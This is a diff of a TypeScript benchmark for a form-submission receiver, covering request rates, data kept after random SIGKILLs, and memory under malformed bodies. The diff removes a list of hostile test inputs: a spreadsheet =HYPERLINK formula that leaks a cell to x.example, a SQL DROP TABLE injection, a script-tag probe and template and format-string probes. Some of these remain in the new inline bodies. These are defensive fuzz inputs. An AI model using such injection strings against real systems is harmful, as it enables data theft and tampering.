@@ -1,14 +1,14 @@
 /**
  * Measures the bundled receiver and writes docs/receiver-figures.md: `node tools/bench/receiver.ts`, on a quiet machine.
- * Ends with status 1 when an acknowledged submission is missing, a malformed body was answered wrongly, or memory grows.
+ * Ends with status 1 when an acknowledged enquiry is missing, stored twice or damaged, or when memory grows.
  */
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { cpus, loadavg } from "node:os";
 import { join, resolve } from "node:path";
 import { setTimeout as wait } from "node:timers/promises";
+import { isDeepStrictEqual } from "node:util";
 import { defaultEndpoints } from "../../contract/addresses.ts";
-import { fields, largestBody } from "../../contract/submission.ts";
-import { readSubmissions, type StoredSubmission } from "../../receiver/server/read-submissions.ts";
+import { readSubmissions } from "../../receiver/server/read-submissions.ts";
 import { type ServedBuild, serveBuild } from "../test-sites/serve-build.ts";
 import { enquiry, table } from "./measure.ts";
 
@@ -16,25 +16,6 @@ import { enquiry, table } from "./measure.ts";
 const measuredTime = 5_000;
 const kills = 50;
 const malformed = 20_000;
-
-const hostileTexts = [
-  ...[
-    "=1+1",
-    '=HYPERLINK("https://x.example/?"&A1)',
-    "\t=1",
-    "1/2",
-    "",
-    " ",
-    "\u200b",
-    "a\r\nb",
-    "\0",
-    "\uFEFF",
-    "\ud83d",
-  ],
-  ...["'; DROP TABLE enquiries; --", "<script>alert(1)</script>", "{{7*7}}", "%s%n", "अदिति 🙏🏽", "a\u0301", "\u202e"],
-  "🙏🏽".repeat(1_000),
-  "x".repeat(largestBody / 4),
-];
 
 let senders = 0;
 
@@ -48,7 +29,7 @@ writeFileSync(join(outDir, "index.html"), "<!doctype html><title>x</title>");
 try {
   const load = loadavg()[0]?.toFixed(1);
   const machine = `Node ${process.version}, ${cpus().length} × ${cpus()[0]?.model.trim()}, ${process.platform}, load ${load}`;
-  const tables = [await measureRates(), await killAtRandom(), await sendMalformedBodies()];
+  const tables = [await measureRates(), await killAtRandom(), await measureMemory()];
   writeFileSync(
     "docs/receiver-figures.md",
     `# What the bundled receiver was measured to do
@@ -109,11 +90,13 @@ async function killAtRandom(): Promise<string> {
     await server.close("SIGKILL");
     await sending;
   }
-  const rows = stored("kills");
-  const names = rows.map(({ texts }) => texts.name);
-  const missing = [...acknowledged].filter((name) => !names.includes(name)).length;
-  const twice = names.length - new Set(names).size;
-  const damaged = rows.filter(({ texts }) => !isWhole(texts, enquiry(texts.name))).length;
+  const received = readSubmissions(join(folder, "kills"));
+  const texts = Array.from(received?.all("enquiry") ?? [], (row) => row.texts);
+  received?.close();
+  const names = new Set(texts.map(({ name }) => name));
+  const missing = acknowledged.difference(names).size;
+  const twice = texts.length - names.size;
+  const damaged = texts.filter((stored) => !isDeepStrictEqual({ ...stored }, enquiry(stored.name))).length;
   if (missing + twice + damaged > 0) process.exitCode = 1;
   return table(
     ["Enquiries while the server is killed (SIGKILL) at random moments", ""],
@@ -121,7 +104,7 @@ async function killAtRandom(): Promise<string> {
       ["kills", kills],
       ["sent", sent],
       ["acknowledged", acknowledged.size],
-      ["stored", names.length],
+      ["stored", texts.length],
       ["acknowledged and missing", missing],
       ["stored twice", twice],
       ["damaged", damaged],
@@ -129,77 +112,44 @@ async function killAtRandom(): Promise<string> {
   );
 }
 
-async function sendMalformedBodies(): Promise<string> {
+/** That each malformed body gets its answer is tested elsewhere; here, that many of them leave memory as it was. */
+async function measureMemory(): Promise<string> {
   const server = await start("malformed");
-  const expected = new Map<string, Texts>();
   const memory: number[] = [];
   const answers: Record<number, number> = {};
   let sent = 0;
-  let wrong = 0;
   await repeat(Number.POSITIVE_INFINITY, 8, async () => {
     if (sent >= malformed) return false;
     if (sent % 2_000 === 0) memory.push(memoryOf(server));
-    const { body, type = "text/plain;charset=UTF-8", stored } = malformedBody(sent++);
-    const status = await post(server, body, { "Content-Type": type });
+    const whole = JSON.stringify(enquiry(`=1+1 🙏🏽 \ud83d \0 <script> ${sent}`));
+    const bodies = [
+      whole,
+      whole.slice(0, -1),
+      `[${whole}]`,
+      '{"name":5}',
+      "[".repeat(20_000),
+      "x".repeat(sent * 60),
+      "",
+    ];
+    const status = await post(server, bodies[sent++ % bodies.length] ?? "");
     answers[status] = (answers[status] ?? 0) + 1;
-    if (stored) expected.set(String(stored.name), stored);
-    if (stored ? status !== 200 : status !== 400 && status !== 413) wrong++;
     return true;
   });
   memory.push(memoryOf(server));
   await server.close();
-  const rows = new Map(stored("malformed").map(({ texts }) => [texts.name, texts]));
-  const lost = [...expected].filter(([name, texts]) => !isWhole(rows.get(name), texts)).length;
   // A process may warm up; what still grows by more than a tenth at the end leaks.
   const mean = (samples: number[]) => samples.reduce((sum, sample) => sum + sample, 0) / samples.length;
   const grows = mean(memory.slice(-3)) > mean(memory.slice(-6, -3)) * 1.1;
-  if (wrong + lost > 0 || rows.size !== expected.size || grows) process.exitCode = 1;
+  if (grows) process.exitCode = 1;
   return table(
     ["Malformed and hostile bodies", ""],
     [
       ["sent", sent],
       ...Object.entries(answers).map(([status, count]) => [`answered ${status}`, count] as const),
-      ["answered wrongly", wrong],
-      ["to be stored", expected.size],
-      ["stored", rows.size],
-      ["lost or changed", lost],
       ["memory of the server after each 2,000, MB", memory.join(", ")],
       ["memory, last three samples against the three before", grows ? "grows" : "flat"],
     ],
   );
-}
-
-type Texts = Record<string, string>;
-
-/** @returns `stored`: what must be stored, undefined when the body must be refused */
-function malformedBody(number: number): { body: string | Uint8Array<ArrayBuffer>; type?: string; stored?: Texts } {
-  const texts: Texts = Object.fromEntries(
-    fields.enquiry.map((name, index) => [name, hostileTexts[(number * 7 + index * 3) % hostileTexts.length] ?? ""]),
-  );
-  texts.name = `Person ${number}`;
-  const json = (changes = {}) => JSON.stringify({ ...texts, ...changes });
-  const bodies = [
-    { body: json(), stored: texts },
-    { body: json(), type: "image/png", stored: texts },
-    { body: `\uFEFF \n${json({ extra: [texts], suspect: true })}`, stored: texts },
-    {
-      body: new URLSearchParams(texts).toString(),
-      type: "application/x-www-form-urlencoded",
-      // The receiver takes back that a browser writes each line end as CRLF.
-      stored: Object.fromEntries(fields.enquiry.map((name) => [name, (texts[name] ?? "").replaceAll("\r\n", "\n")])),
-    },
-    { body: json({ mobile: undefined }) },
-    { body: json({ email: [null, 5, {}, [texts.email], true][number % 5] }) },
-    { body: `[${json()}]` },
-    { body: json().slice(0, -1) },
-    { body: json(), type: "multipart/form-data; boundary=x" },
-    // Bytes that are not UTF-8.
-    { body: new TextEncoder().encode(json()).fill(0xff, 10, 11) },
-    { body: "[".repeat(number) },
-    { body: ["", " ", "null", "5", '"text"', "name=Asha", "\0"][number % 7] ?? "" },
-    { body: "x".repeat(number % 20 === 0 ? largestBody + 1 : 1) },
-  ];
-  return bodies[number % bodies.length] ?? { body: "" };
 }
 
 function start(name: string): Promise<ServedBuild> {
@@ -207,16 +157,12 @@ function start(name: string): Promise<ServedBuild> {
 }
 
 /** Each request comes from another sender: the limit for one sender is not what is measured. */
-async function post(
-  { url }: ServedBuild,
-  body: string | Uint8Array<ArrayBuffer>,
-  headers: Record<string, string> = {},
-) {
+async function post({ url }: ServedBuild, body: string): Promise<number> {
   const sender = `10.${(senders >> 16) & 255}.${(senders >> 8) & 255}.${senders++ & 255}`;
   const response = await fetch(url + defaultEndpoints.enquiry, {
     method: "POST",
     body,
-    headers: { ...headers, "X-Forwarded-For": sender },
+    headers: { "X-Forwarded-For": sender },
     redirect: "manual",
   });
   await response.arrayBuffer();
@@ -241,18 +187,4 @@ async function repeat(milliseconds: number, connections: number, action: () => P
   };
   await Promise.all(Array.from({ length: connections }, work));
   return (done / (performance.now() - start)) * 1_000;
-}
-
-function stored(name: string): StoredSubmission<"enquiry">[] {
-  const received = readSubmissions(join(folder, name));
-  try {
-    return [...(received?.all("enquiry") ?? [])];
-  } finally {
-    received?.close();
-  }
-}
-
-/** Whether all texts are stored, except for what no store can keep: half a character pair, NUL and the byte order mark. */
-function isWhole(texts: Record<string, string> | undefined, sent: Record<string, string>): boolean {
-  return fields.enquiry.every((name) => texts?.[name] === sent[name]?.toWellFormed().replace(/[\0\uFEFF]/g, ""));
 }
